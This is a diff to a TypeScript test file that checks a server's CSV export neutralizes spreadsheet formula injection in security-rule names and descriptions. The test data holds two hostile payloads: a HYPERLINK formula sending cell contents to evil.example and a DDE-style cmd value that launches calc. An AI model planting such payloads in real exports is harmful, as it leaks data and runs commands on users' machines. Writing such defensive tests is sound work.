@@ -8,8 +8,14 @@ import { raw, testServer, workspace } from "./Harness.js"
 
 type Json = Record<string, any>
 
-/** RFC 4180, read back: the oracle for what the server writes. */
-const parseCsv = (text: string): Array<Array<string>> => {
+/**
+ * RFC 4180, read back: the oracle for what the server writes. Each cell as a spreadsheet holds
+ * it (`shown`), or as it was before the server neutralized it (one leading `'` taken off).
+ */
+const parseCsv = (text: string, as: "shown" | "restored" = "restored"): Array<Array<string>> =>
+  parseShown(text).map((row) => row.map((cell) => as === "shown" || !cell.startsWith("'") ? cell : cell.slice(1)))
+
+const parseShown = (text: string): Array<Array<string>> => {
   const rows: Array<Array<string>> = []
   let row: Array<string> = []
   let field = ""
@@ -84,6 +90,28 @@ layer(testServer(), { excludeTestServices: true })("exports", (it) => {
       }),
     { fastCheck: { numRuns: 8 } }
   )
+
+  it.effect("a rule whose name or description a spreadsheet would run is exported as text, and reads back", () =>
+    Effect.gen(function*() {
+      const w = yield* workspace
+      const name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
+      const description = "@SUM(1+1)*cmd|' /C calc'!A0"
+      yield* raw("POST", "/security-rules", { headers: w.headers, body: rule(w.vpc.id, name, { description }) })
+      for (const start of ["+1", "-1", "\tx", "'quoted"]) {
+        yield* raw("POST", "/security-rules", { headers: w.headers, body: rule(w.vpc.id, `${start} rule`) })
+      }
+      const csv = yield* raw("GET", `/security-rules?vpc_id=${w.vpc.id}`, {
+        headers: { ...w.headers, accept: "text/csv" }
+      })
+      const shown = parseCsv(csv.text, "shown").slice(1)
+      for (const row of shown) {
+        expect(row[1]).not.toMatch(/^[=+\-@\t\r]/)
+        expect(row[2]).not.toMatch(/^[=+\-@\t\r]/)
+      }
+      expect(shown).toContainEqual(expect.arrayContaining([`'${name}`, `'${description}`]))
+      const restored = parseCsv(csv.text).slice(1).map((row) => row[1])
+      expect(restored).toEqual(expect.arrayContaining([name, "+1 rule", "-1 rule", "\tx rule", "'quoted rule"]))
+    }))
 
   it.effect("reachability as CSV and DOT, the analysis as SARIF; JSON by default and for */*", () =>
     Effect.gen(function*() {
